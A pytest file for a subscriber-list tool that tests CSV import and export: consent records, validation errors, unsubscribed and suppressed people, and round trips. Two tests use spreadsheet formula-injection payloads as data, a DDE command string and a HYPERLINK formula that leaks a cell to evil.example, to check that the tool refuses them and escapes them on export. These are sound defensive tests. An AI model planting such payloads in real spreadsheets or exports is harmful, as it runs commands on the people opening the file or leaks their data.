"""Moving a list in and out as CSV, as an operator does it."""

from __future__ import annotations

import csv
import io

from sqlalchemy import func, select

from notifier.bounces.suppression import record_bounce, unsuppress
from notifier.extensions import db
from notifier.models import AuditEntry, Bounce, ConsentRecord, Outbox, Subscriber
from notifier.subscriptions.choices import Choices, pick_strands
from notifier.subscriptions.confirm import confirm
from notifier.subscriptions.consent import Origin
from notifier.subscriptions.subscribe import subscribe
from notifier.subscriptions.unsubscribe import unsubscribe
from tests.support.content import at, outbox, preferences_of
from tests.support.pages import subscriber

HEADER = "email,strands,frequency,reminders,consent_at,consent_source\n"


def write(tmp_path, body: str, name="list.csv"):
    path = tmp_path / name
    path.write_text(HEADER + body, encoding="utf-8")
    return str(path)


def count(model) -> int:
    return db.session.scalar(select(func.count()).select_from(model))


def test_rows_with_consent_arrive_confirmed_and_others_are_asked(runner, tmp_path):
    path = write(
        tmp_path,
        " Ada@Example.org ,research-statistics;fraud-error-debt,weekly,false,"
        "2025-06-01T09:30:00+01:00,signup sheet at the June workshop\n"
        "bob@example.org,tailored-public-services,immediate,true,,\n",
    )
    result = runner.invoke(args=["subscribers", "import", path, "--now", "2026-11-25T10:00:00Z"])
    assert result.exit_code == 0, result.output
    assert "1 confirmed, 1 asked to confirm" in result.output
    ada = db.session.scalar(select(Subscriber).where(Subscriber.email == "ada@example.org"))
    assert ada.status == "confirmed"
    assert ada.confirmed_at.isoformat() == "2025-06-01T08:30:00+00:00"
    assert preferences_of(ada) == {
        "fraud-error-debt": ("weekly", False),
        "research-statistics": ("weekly", False),
    }
    evidence = db.session.scalar(select(ConsentRecord).where(ConsentRecord.subscriber_id == ada.id))
    assert evidence.source == "signup sheet at the June workshop"
    bob = db.session.scalar(select(Subscriber).where(Subscriber.email == "bob@example.org"))
    assert bob.status == "pending"
    [email] = db.session.scalars(select(Outbox)).all()
    assert (email.kind, email.to_address) == ("confirm", "bob@example.org")


def test_a_file_with_bad_rows_imports_nothing_and_names_the_lines(runner, tmp_path):
    path = write(
        tmp_path,
        "good@example.org,fraud-error-debt,daily,true,,\n"
        "not-an-address,fraud-error-debt,daily,true,,\n"
        "c@example.org,astrology,daily,true,,\n"
        "d@example.org,fraud-error-debt,hourly,true,,\n"
        "e@example.org,fraud-error-debt,daily,maybe,,\n"
        "f@example.org,fraud-error-debt,daily,true,2020-01-01T00:00:00Z,\n"
        "g@example.org,fraud-error-debt,daily,true,yesterday,form\n"
        "GOOD@example.org,fraud-error-debt,daily,true,,\n",
    )
    result = runner.invoke(args=["subscribers", "import", path])
    assert result.exit_code == 2
    for line, field in [
        (3, "email"),
        (4, "strands"),
        (5, "frequency"),
        (6, "reminders"),
        (7, "consent"),
        (8, "consent_at"),
        (9, "email"),
    ]:
        assert f"line {line}: {field}:" in result.output
    assert "line 2:" not in result.output
    assert count(Subscriber) == 0
    assert count(Outbox) == 0


def test_a_file_with_the_wrong_columns_is_refused(runner, tmp_path):
    path = tmp_path / "wrong.csv"
    path.write_text("address,topics\nada@example.org,fraud\n")
    result = runner.invoke(args=["subscribers", "import", str(path)])
    assert result.exit_code == 2
    assert "missing column 'email'" in result.output
    assert "unknown column 'address'" in result.output
    assert count(Subscriber) == 0


def test_import_leaves_people_who_left_as_they_are(runner, tmp_path):
    db.session.add(Subscriber(email="gone@example.org", status="unsubscribed"))
    db.session.commit()
    path = write(
        tmp_path, "gone@example.org,fraud-error-debt,daily,true,2024-01-01T00:00:00Z,old list\n"
    )
    result = runner.invoke(args=["subscribers", "import", path])
    assert result.exit_code == 0, result.output
    assert "1 left as they were" in result.output
    gone = db.session.scalar(select(Subscriber).where(Subscriber.email == "gone@example.org"))
    assert gone.status == "unsubscribed"
    assert count(Outbox) == 0


def test_export_then_import_elsewhere_keeps_the_list(runner, tmp_path, make_app):
    path = write(
        tmp_path,
        "ada@example.org,research-statistics;fraud-error-debt,weekly,false,"
        "2025-06-01T09:30:00+00:00,workshop sheet\n"
        "bob@example.org,tailored-public-services,immediate,true,,\n",
    )
    assert runner.invoke(args=["subscribers", "import", path]).exit_code == 0
    exported = runner.invoke(args=["subscribers", "export"]).output
    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(exported))}
    assert rows["ada@example.org"] == {
        "email": "ada@example.org",
        "strands": "research-statistics;fraud-error-debt",
        "frequency": "weekly",
        "reminders": "false",
        "consent_at": "2025-06-01T09:30:00+00:00",
        "consent_source": "workshop sheet",
        "status": "confirmed",
        "confirmed_at": "2025-06-01T09:30:00+00:00",
        "consent_ip": "",
        "unsubscribed_at": "",
        "suppressed_at": "",
        "suppressed_reason": "",
    }
    assert rows["bob@example.org"]["status"] == "pending"
    assert rows["bob@example.org"]["consent_at"] == ""

    again = tmp_path / "again.csv"
    again.write_text(exported)
    db.session.execute(Outbox.__table__.delete())
    db.session.execute(ConsentRecord.__table__.delete())
    db.session.execute(Subscriber.__table__.delete())
    db.session.commit()
    assert runner.invoke(args=["subscribers", "import", str(again)]).exit_code == 0
    assert runner.invoke(args=["subscribers", "export"]).output == exported


def everyone_in_every_state():
    """Build one person per way of reaching each status, through the services people use."""
    origin = Origin("192.0.2.7", "pytest", "web form")
    picks = Choices.same(pick_strands(["fraud-error-debt"]), "weekly", False)
    for name in (
        "pending",
        "confirmed",
        "left",
        "left-unconfirmed",
        "bounced",
        "left-then-complained",
        "back",
    ):
        subscribe(f"{name}@example.org", picks, origin, at("2026-01-05T10:00:00"))
    for name in ("confirmed", "left", "bounced", "left-then-complained", "back"):
        confirm(subscriber(f"{name}@example.org"), origin, at("2026-01-05T10:30:00"))
    for name in ("left", "left-unconfirmed", "left-then-complained", "back"):
        unsubscribe(subscriber(f"{name}@example.org"), origin, at("2026-02-01T12:00:00"))
    subscribe("back@example.org", picks, origin, at("2026-03-01T09:00:00"))
    record_bounce("bounced@example.org", "hard", at("2026-02-10T08:00:00"), status_code="5.1.1")
    record_bounce("left-then-complained@example.org", "complaint", at("2026-02-11T08:00:00"))
    db.session.commit()


def wipe():
    for model in (Bounce, AuditEntry, Outbox, ConsentRecord, Subscriber):
        db.session.execute(model.__table__.delete())
    db.session.commit()


def test_an_export_imports_again_unchanged_for_every_status_and_nobody_is_revived(runner, tmp_path):
    everyone_in_every_state()
    before = {person.email: person.status for person in db.session.scalars(select(Subscriber))}
    exported = runner.invoke(args=["subscribers", "export"]).output
    (tmp_path / "moved.csv").write_text(exported)
    wipe()

    result = runner.invoke(
        args=["subscribers", "import", str(tmp_path / "moved.csv"), "--now", "2026-04-01T09:00Z"]
    )
    assert result.exit_code == 0, result.output
    assert runner.invoke(args=["subscribers", "export"]).output == exported
    after = {person.email: person.status for person in db.session.scalars(select(Subscriber))}
    assert after == before
    assert before["left@example.org"] == "unsubscribed"
    assert before["left-then-complained@example.org"] == "suppressed"
    # Only the two people still waiting to confirm are asked to, once each.
    assert sorted((row.kind, row.to_address) for row in outbox()) == [
        ("confirm", "back@example.org"),
        ("confirm", "pending@example.org"),
    ]
    # Lifting a suppression restores what each person had chosen before it, not more.
    assert unsuppress("bounced@example.org").status == "confirmed"
    assert unsuppress("left-then-complained@example.org").status == "unsubscribed"


def test_an_imported_unsubscribe_stops_a_pending_address_here(runner, tmp_path):
    subscribe(
        "ada@example.org",
        Choices.same(pick_strands(["fraud-error-debt"]), "daily", True),
        Origin(None, None, "web form"),
        at("2026-03-01T09:00:00"),
    )
    db.session.commit()
    path = tmp_path / "other-list.csv"
    path.write_text(
        "email,strands,frequency,reminders,consent_at,consent_source,status,unsubscribed_at\n"
        "ada@example.org,fraud-error-debt,daily,true,,,unsubscribed,2026-02-01T00:00:00Z\n"
    )
    result = runner.invoke(args=["subscribers", "import", str(path), "--now", "2026-03-02T09:00Z"])
    assert result.exit_code == 0, result.output
    assert "1 kept unsubscribed or suppressed" in result.output
    assert subscriber("ada@example.org").status == "unsubscribed"
    assert [(row.kind, row.status) for row in outbox()] == [("confirm", "cancelled")]


def test_a_bad_status_or_a_confirmed_row_without_consent_is_refused(runner, tmp_path):
    path = tmp_path / "bad.csv"
    path.write_text(
        "email,strands,frequency,reminders,consent_at,consent_source,status,suppressed_at\n"
        "a@example.org,fraud-error-debt,daily,true,,,confirmed,\n"
        "b@example.org,fraud-error-debt,daily,true,,,gone,\n"
        "c@example.org,fraud-error-debt,daily,true,,,suppressed,next tuesday\n"
    )
    result = runner.invoke(args=["subscribers", "import", str(path)])
    assert result.exit_code == 2
    assert "line 2: consent:" in result.output
    assert "line 3: status:" in result.output
    assert "line 4: suppressed_at:" in result.output
    assert count(Subscriber) == 0


FORMULA = "=cmd|'/Ccalc'!A0@example.com"


def test_an_address_a_spreadsheet_would_run_is_refused_at_the_door(client, runner, tmp_path):
    answer = client.post(
        "/api/v1/subscriptions", json={"email": FORMULA, "strands": ["fraud-error-debt"]}
    )
    assert answer.status_code == 400
    assert "does not start with =" in answer.json["fields"]["email"]
    path = write(tmp_path, f"{FORMULA},fraud-error-debt,daily,true,,\n")
    result = runner.invoke(args=["subscribers", "import", path])
    assert result.exit_code == 2
    assert "line 2: email: Enter an email address that does not start with =" in result.output
    assert count(Subscriber) == 0


def test_export_cells_never_start_a_formula_and_import_back_unchanged(runner, tmp_path):
    path = write(
        tmp_path,
        "ada@example.org,fraud-error-debt,daily,true,2026-01-01T00:00:00Z,"
        '"=HYPERLINK(""http://evil.example/?""&A2,""open"")"\n'
        "bob@example.org,fraud-error-debt,daily,true,2026-01-01T00:00:00Z,- June sheet\n"
        "cy@example.org,fraud-error-debt,daily,true,2026-01-01T00:00:00Z,''@ quoted\n"
        "di@example.org,fraud-error-debt,daily,true,2026-01-01T00:00:00Z,'plain quote\n",
    )
    assert runner.invoke(args=["subscribers", "import", path]).exit_code == 0
    # One accepted before the door refused such addresses.
    db.session.add(Subscriber(email=FORMULA.lower(), status="suppressed", suppressed_reason="+1"))
    db.session.commit()
    exported = runner.invoke(args=["subscribers", "export"]).output
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(exported))}
    assert rows["'" + FORMULA.lower()]["suppressed_reason"] == "'+1"
    assert rows["bob@example.org"]["consent_source"] == "'- June sheet"
    assert rows["cy@example.org"]["consent_source"] == "''@ quoted"
    assert rows["di@example.org"]["consent_source"] == "'plain quote"

    db.session.execute(Subscriber.__table__.delete().where(Subscriber.email == FORMULA.lower()))
    db.session.commit()
    exported = runner.invoke(args=["subscribers", "export"]).output
    (tmp_path / "again.csv").write_text(exported)
    wipe()
    assert runner.invoke(args=["subscribers", "import", str(tmp_path / "again.csv")]).exit_code == 0
    assert runner.invoke(args=["subscribers", "export"]).output == exported
    sources = {row.source for row in db.session.scalars(select(ConsentRecord))}
    assert sources == {
        '=HYPERLINK("http://evil.example/?"&A2,"open")',
        "- June sheet",
        "'@ quoted",
        "'plain quote",
    }
